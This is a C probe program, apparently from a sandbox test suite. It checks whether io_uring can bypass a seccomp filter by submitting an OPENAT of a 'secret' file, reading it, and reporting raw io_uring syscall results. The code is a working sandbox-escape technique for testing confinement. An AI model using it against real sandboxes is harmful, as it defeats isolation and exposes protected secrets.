/* io_uring performs path calls in kernel workers, outside any seccomp filter (issue #2, item
 * 10). If a ring can be set up, an IORING_OP_OPENAT of the secret is submitted and its result
 * read, so a control run natively shows the door is real.
 *
 * usage: escape_iouring SECRET_FILE
 */
#include "escape_common.h"
#include <linux/io_uring.h>
#include <sys/mman.h>

static void try_ring_open(const char *attempt, int ring, struct io_uring_params *p, const char *path) {
    size_t sq_len = p->sq_off.array + p->sq_entries * sizeof(unsigned);
    size_t cq_len = p->cq_off.cqes + p->cq_entries * sizeof(struct io_uring_cqe);
    char *sq = mmap(NULL, sq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
    char *cq = mmap(NULL, cq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_CQ_RING);
    struct io_uring_sqe *sqes = mmap(NULL, p->sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
                                     MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
    if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) {
        result(attempt, 0, errno);
        return;
    }
    unsigned *sq_tail = (unsigned *)(sq + p->sq_off.tail);
    unsigned *sq_mask = (unsigned *)(sq + p->sq_off.ring_mask);
    unsigned *sq_array = (unsigned *)(sq + p->sq_off.array);
    unsigned *cq_head = (unsigned *)(cq + p->cq_off.head);
    unsigned *cq_tail = (unsigned *)(cq + p->cq_off.tail);
    unsigned *cq_mask = (unsigned *)(cq + p->cq_off.ring_mask);
    struct io_uring_cqe *cqes = (struct io_uring_cqe *)(cq + p->cq_off.cqes);

    unsigned tail = *sq_tail, idx = tail & *sq_mask;
    struct io_uring_sqe *sqe = &sqes[idx];
    memset(sqe, 0, sizeof *sqe);
    sqe->opcode = IORING_OP_OPENAT;
    sqe->fd = AT_FDCWD;
    sqe->addr = (unsigned long)path;
    sqe->open_flags = O_RDONLY;
    sqe->user_data = 42;
    sq_array[idx] = idx;
    __atomic_store_n(sq_tail, tail + 1, __ATOMIC_RELEASE);
    long rc = syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0);
    if (rc < 0) {
        result(attempt, 0, errno);
        return;
    }
    unsigned head = __atomic_load_n(cq_head, __ATOMIC_ACQUIRE);
    if (head == __atomic_load_n(cq_tail, __ATOMIC_ACQUIRE)) {
        result(attempt, 0, EAGAIN);
        return;
    }
    int res = cqes[head & *cq_mask].res;
    __atomic_store_n(cq_head, head + 1, __ATOMIC_RELEASE);
    if (res < 0) {
        result(attempt, 0, -res);
        return;
    }
    report_fd_read(attempt, res);
    close(res);
}

int main(int argc, char **argv) {
    setup_output();
    if (argc != 2) {
        fprintf(stderr, "usage: %s SECRET_FILE\n", argv[0]);
        return 2;
    }
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    long ring = syscall(SYS_io_uring_setup, 8, &p);
    int e = errno;
    result("io_uring_setup", ring >= 0, e);
    if (ring >= 0) {
        try_ring_open("io_uring_openat_secret", (int)ring, &p, argv[1]);
        close((int)ring);
    }
    memset(&p, 0, sizeof p);
    long ring2 = syscall(425, 8, &p);
    result_rc("raw_425_setup", ring2);
    if (ring2 >= 0)
        close((int)ring2);
    /* enter and register on a bogus descriptor: EPERM from the filter, not EBADF from the kernel. */
    result_rc("raw_426_enter", syscall(426, 1000, 0, 0, 0, NULL, 0));
    result_rc("raw_427_register", syscall(427, 1000, 0, NULL, 0));
    done();
    return 0;
}
